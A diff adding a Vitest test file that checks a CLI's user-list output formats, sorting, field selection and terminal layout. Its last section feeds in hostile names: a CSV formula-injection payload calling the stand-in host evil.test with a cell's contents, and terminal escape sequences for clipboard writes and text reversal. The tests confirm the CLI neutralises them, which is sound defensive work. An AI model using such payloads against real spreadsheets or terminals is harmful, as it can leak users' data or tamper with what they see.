@@ -1,0 +1,273 @@
+import { describe, expect, it } from "vitest";
+import { harmless, harmlessData } from "../../src/cli/output/text.ts";
+import { runCli } from "../_cli.ts";
+import { SEED, setup, type Service, ADA } from "../_setup.ts";
+
+const LIST = ["users", "list"];
+
+/** Acme with nobody but users of these names. */
+function named(...names: string[]): Promise<Service> {
+  const [acme] = SEED.instances;
+  const users = names.map((name, i) => ({ email: `m${i}@acme.test`, name, created_at: `2026-01-0${9 - i}T09:00:00Z` }));
+  return setup({ seed: { instances: [{ ...acme, users }] } });
+}
+
+describe("Names that are written with joiners", () => {
+  it.each(["علی\u200cرضا", "👩\u200d👩\u200d👧"])("are data as they are, and marked in a table: %s", (name) => {
+    expect(harmlessData(`${name}\u001b[2J`)).toBe(`${name}\\u{1b}[2J`);
+    expect(harmless(name)).toMatch(/\\u\{200[cd]\}/);
+  });
+});
+
+describe("--output", () => {
+  it.each<[format: string, text: string]>([
+    ["ids", `00000000-0000-4000-8000-0000000000a3\n${ADA}\n00000000-0000-4000-8000-0000000000a2\n`],
+    [
+      "csv",
+      "id,email,name,avatar_url,providers,email_verified,created_at\n" +
+        '00000000-0000-4000-8000-0000000000a3,grace@navy.test,"Grace Hopper",,github,false,2026-02-14T12:30:00.000Z\n' +
+        `${ADA},ada@acme.test,"Ada Lovelace",,google,true,2026-01-05T09:00:00.000Z\n` +
+        '00000000-0000-4000-8000-0000000000a2,charles@acme.test,"Charles Babbage",,,false,2025-12-24T18:00:00.000Z\n',
+    ],
+    [
+      "tsv",
+      "00000000-0000-4000-8000-0000000000a3\tgrace@navy.test\tGrace Hopper\t\tgithub\tfalse\t2026-02-14T12:30:00.000Z\n" +
+        `${ADA}\tada@acme.test\tAda Lovelace\t\tgoogle\ttrue\t2026-01-05T09:00:00.000Z\n` +
+        "00000000-0000-4000-8000-0000000000a2\tcharles@acme.test\tCharles Babbage\t\t\tfalse\t2025-12-24T18:00:00.000Z\n",
+    ],
+  ])("%s is the same in a pipe and on a terminal", async (format, text) => {
+    const service = await setup();
+    for (const tty of [true, false])
+      for (const flag of [["--output", format], [`--output=${format}`]])
+        expect(await runCli([...LIST, ...flag], { service, tty })).toMatchObject({ code: 0, stdout: text, stderr: "" });
+  });
+
+  it("ndjson is the API's resources, a line each", async () => {
+    const service = await setup();
+    const body = (await (await service.as(service.acme, "/api/v1/users")).json()) as object[];
+    const { stdout } = await runCli([...LIST, "--output", "ndjson"], { service, tty: true });
+    expect(stdout).toBe(body.map((user) => `${JSON.stringify(user)}\n`).join(""));
+  });
+
+  it("json is the same as --json", async () => {
+    const service = await setup();
+    for (const argv of [LIST, ["users", "get", ADA], ["users", "search", "name:nobody"]]) {
+      const json = await runCli([...argv, "--json"], { service });
+      for (const flag of [["--output", "json"], ["--output=json"], ["--json", "--output", "json"]])
+        expect(await runCli([...argv, ...flag], { service })).toMatchObject({ code: 0, stdout: json.stdout });
+    }
+  });
+
+  it("says errors in JSON where it is json", async () => {
+    for (const flag of [["--output", "json"], ["--output=json"]]) {
+      const { stderr } = await runCli(["users", "get", "ada", ...flag], { service: await setup() });
+      expect(JSON.parse(stderr)).toMatchObject({ error: { exitCode: 2 } });
+    }
+  });
+
+  it("table can be asked for in a pipe, and is as wide as it has to be", async () => {
+    const { stdout } = await runCli([...LIST, "--output", "table"], {
+      service: await named("x".repeat(200)),
+      columns: 40,
+    });
+    expect(stdout).toContain("x".repeat(200));
+  });
+
+  it("prints one resource in every format", async () => {
+    const service = await setup();
+    const get = (format: string): Promise<{ stdout: string }> =>
+      runCli(["users", "get", ADA, "--output", format], { service });
+    expect((await get("ids")).stdout).toBe(`${ADA}\n`);
+    expect((await get("csv")).stdout.split("\n")[0]).toBe(
+      "id,email,name,avatar_url,providers,email_verified,created_at",
+    );
+    expect((await get("tsv")).stdout).toBe(
+      `${ADA}\tada@acme.test\tAda Lovelace\t\tgoogle\ttrue\t2026-01-05T09:00:00.000Z\n`,
+    );
+    expect((await get("ndjson")).stdout).toBe((await get("json")).stdout);
+  });
+
+  it.each<[argv: string[], message: string]>([
+    [[...LIST, "--output", "xml"], '--output: unknown format "xml".'],
+    [[...LIST, "--output", "csv", "--json"], "--json and --output csv are mutually exclusive."],
+    [
+      ["query", "explain", "name:x", "--output", "csv"],
+      '--output csv is for lists, and "svc query explain" does not print one.',
+    ],
+    [[...LIST, "--fields", "password_digest"], '--fields: unknown field "password_digest".'],
+    [[...LIST, "--fields", ""], '--fields: unknown field "".'],
+    [[...LIST, "--sort", "--created_at"], '--sort: unknown field "-created_at".'],
+    [[...LIST, "--sort", "constructor"], '--sort: unknown field "constructor".'],
+    [[...LIST, "--limit", "-1"], '--limit must be 1 or greater, not "-1".'],
+  ])("%j is refused, and nothing is sent", async (argv, message) => {
+    const { code, stdout, stderr, requests } = await runCli(argv, { service: await setup() });
+    expect([code, stdout, requests]).toEqual([2, "", []]);
+    expect(stderr).toContain(argv.includes("--json") ? JSON.stringify(message) : `✗ ${message}\n`);
+  });
+});
+
+describe("A list", () => {
+  it.each<[flags: string[], names: string[]]>([
+    [
+      ["--sort", "name"],
+      ["Ada Lovelace", "Charles Babbage", "Grace Hopper"],
+    ],
+    [
+      ["--sort", "-name"],
+      ["Grace Hopper", "Charles Babbage", "Ada Lovelace"],
+    ],
+    [
+      ["--sort", "created_at", "--limit", "2"],
+      ["Charles Babbage", "Ada Lovelace"],
+    ],
+    [
+      ["--limit", "2"],
+      ["Grace Hopper", "Ada Lovelace"],
+    ],
+    [["--after", ADA], ["Charles Babbage"]],
+    [
+      ["--sort", "providers"],
+      ["Grace Hopper", "Ada Lovelace", "Charles Babbage"],
+    ],
+    [
+      ["--sort", "-providers"],
+      ["Ada Lovelace", "Grace Hopper", "Charles Babbage"],
+    ],
+  ])("with %j has the names %j", async (flags, names) => {
+    const service = await setup();
+    const { stdout } = await runCli([...LIST, ...flags, "--fields", "name", "--output", "tsv"], { service });
+    expect(stdout.trimEnd().split("\n")).toEqual(names);
+  });
+
+  it("has the chosen fields alone, in the order they are asked for, in every format", async () => {
+    const service = await setup();
+    const argv = [...LIST, "--limit", "1", "--fields", "email, id,email_verified"];
+    const run = async (...more: string[]): Promise<string> => (await runCli([...argv, ...more], { service })).stdout;
+    const id = "00000000-0000-4000-8000-0000000000a3";
+    expect(await run()).toBe(`grace@navy.test\t${id}\tfalse\n`);
+    expect(await run("--output", "csv")).toBe(`email,id,email_verified\ngrace@navy.test,${id},false\n`);
+    const pruned = `{"id":"${id}","resource":"user","data":{"email":"grace@navy.test","email_verified":false}}`;
+    expect(await run("--json")).toBe(`[${pruned}]\n`);
+    expect(await run("--output", "ndjson")).toBe(`${pruned}\n`);
+    expect(await run("--output", "table")).toBe(
+      `EMAIL            ID${" ".repeat(36)}VERIFIED\ngrace@navy.test  ${id}  no\n`,
+    );
+  });
+
+  it("tells times as they are with --utc", async () => {
+    const service = await setup();
+    const options = { service, tty: true, env: { NO_COLOR: "1" } };
+    expect((await runCli([...LIST, "--utc"], options)).stdout).toContain("2026-01-05T09:00:00.000Z");
+    expect((await runCli(LIST, options)).stdout).not.toContain("2026-01-05");
+    expect((await runCli(["users", "get", ADA], options)).stdout).toContain(
+      "2026-01-05T09:00:00.000Z (5 months ago)\n",
+    );
+    expect((await runCli(["users", "get", ADA, "--utc"], options)).stdout).toContain("2026-01-05T09:00:00.000Z\n");
+  });
+
+  it.each<[argv: string[], count: number]>([
+    [[...LIST, "--count"], 3],
+    [[...LIST, "--count", "--limit", "2"], 2],
+    [["users", "search", "email:*@acme.test", "--count"], 2],
+    [["sessions", "list", "--count", "--json"], 3],
+    [["users", "search", "name:nobody", "--count"], 0],
+  ])("is only counted by %j", async (argv, count) => {
+    expect(await runCli(argv, { service: await setup() })).toMatchObject({ code: 0, stdout: `${count}\n`, stderr: "" });
+  });
+
+  it.each([[[]], [["--json"]], [["--count"]], [["--output", "csv"]]])(
+    "that is empty fails with --fail-empty %j",
+    async (more) => {
+      const service = await setup();
+      const run = async (term: string): Promise<number> =>
+        (await runCli(["users", "search", term, "--fail-empty", ...more], { service })).code;
+      expect([await run("name:nobody"), await run("name:ada*")]).toEqual([3, 0]);
+    },
+  );
+});
+
+describe("A narrow terminal", () => {
+  const run = async (columns: number, ...more: string[]): Promise<[title: string, stderr: string]> => {
+    const { stdout, stderr } = await runCli([...LIST, ...more], {
+      service: await setup(),
+      tty: true,
+      columns,
+      env: { NO_COLOR: "1" },
+    });
+    return [stdout.split("\n")[0]!.replaceAll(/ +/g, " "), stderr];
+  };
+
+  it("leaves out what can be spared rather than cut all to pieces, and says so", async () => {
+    expect(await run(120)).toEqual(["ID EMAIL NAME PROVIDERS VERIFIED CREATED", ""]);
+    const shortened = "Ids are shortened. Use --fields or --output wide.\n";
+    expect(await run(100)).toEqual(["ID EMAIL NAME PROVIDERS VERIFIED CREATED", shortened]);
+    expect(await run(80)).toEqual(["ID EMAIL NAME PROVIDERS VERIFIED CREATED", shortened]);
+    expect(await run(60)).toEqual([
+      "ID EMAIL NAME PROVIDERS",
+      `Hidden columns: email_verified, created_at. ${shortened}`,
+    ]);
+  });
+
+  it("leaves out nothing that was asked for", async () => {
+    expect(await run(60, "--fields", "id,email,created_at")).toEqual([
+      "ID EMAIL CREATED",
+      "Ids are shortened. Use --fields or --output wide.\n",
+    ]);
+  });
+});
+
+describe("A name from a stranger", () => {
+  it.each<[name: string, cell: string]>([
+    ['=HYPERLINK("http://evil.test?"&A1,"click")', `"'=HYPERLINK(""http://evil.test?""&A1,""click"")"`],
+    ["+1+1", `"'+1+1"`],
+    ["-2+3", `"'-2+3"`],
+    ["@SUM(A1)", `"'@SUM(A1)"`],
+    [" =1", `"' =1"`],
+    ["\t=1", `"'\\u{9}=1"`],
+    ["\r=1", `"'\\u{d}=1"`],
+    ["＝1", `"'＝1"`],
+    ['a,b";c', '"a,b"";c"'],
+    ["a\nb", "a\\u{a}b"],
+    ["Ada", "Ada"],
+  ])("is no formula in CSV: %j", async (name, cell) => {
+    const { stdout } = await runCli([...LIST, "--fields", "name,email", "--output", "csv"], {
+      service: await named(name),
+    });
+    expect(stdout).toBe(`name,email\n${cell},m0@acme.test\n`);
+  });
+
+  it("can't do anything in any format, nor make a line", async () => {
+    const ESCAPE = "\u001b";
+    const name = `a${ESCAPE}]52;c;cm0=\u0007\u009b31m\u202e\n\tb`;
+    const service = await named(name, "Bob");
+    for (const format of ["table", "json", "ndjson", "csv", "tsv", "ids"]) {
+      for (const argv of [LIST, ["users", "search", "email:*"]]) {
+        const { stdout } = await runCli([...argv, "--output", format, "--fields", "name,email"], {
+          service,
+          env: { NO_COLOR: "1" },
+        });
+        expect(stdout.replaceAll(/[\t\n]/g, "")).not.toMatch(/[^\P{C}]|[\u2028\u2029]/u);
+        expect(stdout.trimEnd().split("\n")).toHaveLength({ json: 1, table: 3, csv: 3 }[format] ?? 2);
+      }
+    }
+  });
+
+  it("beyond those that were measured still keeps every line within the terminal", async () => {
+    const [acme] = SEED.instances;
+    const users = Array.from({ length: 700 }, (_, i) => ({
+      email: `u${i}@acme.test`,
+      name: i < 100 ? "ソフィア・コワレフスカヤ・ヴァシーリエヴナ" : "Ada",
+      created_at: new Date(Date.UTC(2026, 0, 1) + i * 1000).toISOString(),
+    }));
+    const service = await setup({ seed: { instances: [{ ...acme, users }] } });
+    const { stdout } = await runCli([...LIST, "--no-pager"], {
+      service,
+      tty: true,
+      columns: 90,
+      env: { NO_COLOR: "1" },
+    });
+    const { default: stringWidth } = await import("string-width");
+    expect(Math.max(...stdout.split("\n").map((line) => stringWidth(line)))).toBeLessThanOrEqual(90);
+    expect(stdout.split("\n")).toHaveLength(702);
+  });
+});
